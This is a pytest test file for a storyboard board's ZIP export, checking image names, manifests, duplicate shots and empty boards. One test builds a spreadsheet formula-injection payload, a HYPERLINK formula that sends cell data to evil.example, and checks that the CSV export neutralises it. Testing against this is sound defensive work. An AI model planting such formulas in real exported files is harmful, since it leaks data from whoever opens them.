"""ZIP export: the selected images named by shot, and manifests that match the board."""

from __future__ import annotations

import csv
import datetime
import io
import json
import zipfile

import pytest
from PIL import Image

from boards.exports import EmptyBoardError, ExportBoard, ExportPanel, render_zip
from boards.exports.archive import shot_filename_stem


def make_image(path, fmt=None):
    Image.new("RGB", (32, 18), (200, 40, 40)).save(path, fmt)
    return str(path)


def zip_board(panels):
    return ExportBoard(
        "Night Shift", "Act 1", "storyboard", 16 / 9, "16:9", datetime.date(2025, 3, 7), panels
    )


def export(panels):
    out = io.BytesIO()
    render_zip(zip_board(tuple(panels)), out)
    out.seek(0)
    return zipfile.ZipFile(out)


@pytest.fixture
def panels(tmp_path):
    return [
        ExportPanel(
            shot="1",
            position=0,
            action="Door opens.",
            dialogue="\u201cHello?\u201d \u2014 Élodie",
            shot_type="Wide",
            duration_s=3.0,
            cast=("Anna", "Ben"),
            image_name=make_image(tmp_path / "a.png"),
            image_sha256="abc",
            extra={"take": "7", "seed": "42"},
        ),
        ExportPanel(shot="2A", position=1, image_name=make_image(tmp_path / "b.jpeg")),
        ExportPanel(shot="3", position=2, notes="Not drawn yet"),
    ]


def test_images_are_named_by_shot_and_keep_their_extension(panels):
    names = export(panels).namelist()
    assert sorted(names) == ["manifest.csv", "manifest.json", "shot-001.png", "shot-002A.jpeg"]


def test_images_are_copied_byte_for_byte(panels):
    zf = export(panels)
    with open(panels[0].image_name, "rb") as fh:
        assert zf.read("shot-001.png") == fh.read()


def test_json_manifest_lists_every_panel_with_every_field(panels):
    doc = json.loads(export(panels).read("manifest.json"))
    assert doc["project"] == "Night Shift" and doc["date"] == "2025-03-07"
    first, second, third = doc["panels"]
    assert first == {
        "file": "shot-001.png",
        "shot": "1",
        "position": 0,
        "action": "Door opens.",
        "dialogue": "\u201cHello?\u201d \u2014 Élodie",
        "notes": "",
        "shot_type": "Wide",
        "camera_angle": "",
        "duration_s": 3.0,
        "location": "",
        "cast": ["Anna", "Ben"],
        "image_sha256": "abc",
        "extra": {"take": "7", "seed": "42"},
    }
    assert second["file"] == "shot-002A.jpeg"
    assert third["file"] == "" and third["notes"] == "Not drawn yet"


def test_csv_manifest_matches_the_board(panels):
    text = export(panels).read("manifest.csv").decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["shot"] for r in rows] == ["1", "2A", "3"]
    assert [r["file"] for r in rows] == ["shot-001.png", "shot-002A.jpeg", ""]
    assert rows[0]["dialogue"] == "\u201cHello?\u201d \u2014 Élodie"
    assert rows[0]["cast"] == "Anna; Ben"
    assert rows[0]["extra.seed"] == "42" and rows[1]["extra.seed"] == ""
    assert rows[2]["duration_s"] == ""


def test_missing_file_is_listed_without_a_file(tmp_path):
    zf = export([ExportPanel(shot="1", position=0, image_name=str(tmp_path / "gone.png"))])
    assert json.loads(zf.read("manifest.json"))["panels"][0]["file"] == ""
    assert sorted(zf.namelist()) == ["manifest.csv", "manifest.json"]


def test_repeated_shot_numbers_get_distinct_names(tmp_path):
    path = make_image(tmp_path / "x.png")
    zf = export([ExportPanel(shot="4", position=i, image_name=path) for i in range(3)])
    assert sorted(n for n in zf.namelist() if n.startswith("shot")) == [
        "shot-004-2.png",
        "shot-004-3.png",
        "shot-004.png",
    ]


@pytest.mark.parametrize(
    ("shot", "stem"),
    [("1", "shot-001"), ("12B", "shot-012B"), ("120", "shot-120"), ("INT/3", "shot-INT-3")],
)
def test_shot_filename_stems(shot, stem):
    assert shot_filename_stem(shot) == stem


def test_empty_board_raises():
    with pytest.raises(EmptyBoardError):
        export([])


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_a_spreadsheet_would_run_stay_text(start):
    typed = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
    panel = ExportPanel(
        shot="1", position=0, action=typed, dialogue=typed, cast=(typed,), extra={"note": typed}
    )
    text = export([panel]).read("manifest.csv").decode("utf-8-sig")
    (row,) = csv.DictReader(io.StringIO(text, newline=""))
    for column in ("action", "dialogue", "cast", "extra.note"):
        assert row[column] == "'" + typed
    # The JSON manifest is for programs, not spreadsheets: it keeps the text as typed.
    assert json.loads(export([panel]).read("manifest.json"))["panels"][0]["action"] == typed


def test_csv_keeps_ordinary_text_and_numbers_as_they_are(panels):
    text = export(panels).read("manifest.csv").decode("utf-8-sig")
    (first, *_) = csv.DictReader(io.StringIO(text))
    assert first["action"] == "Door opens." and first["duration_s"] == "3.0"
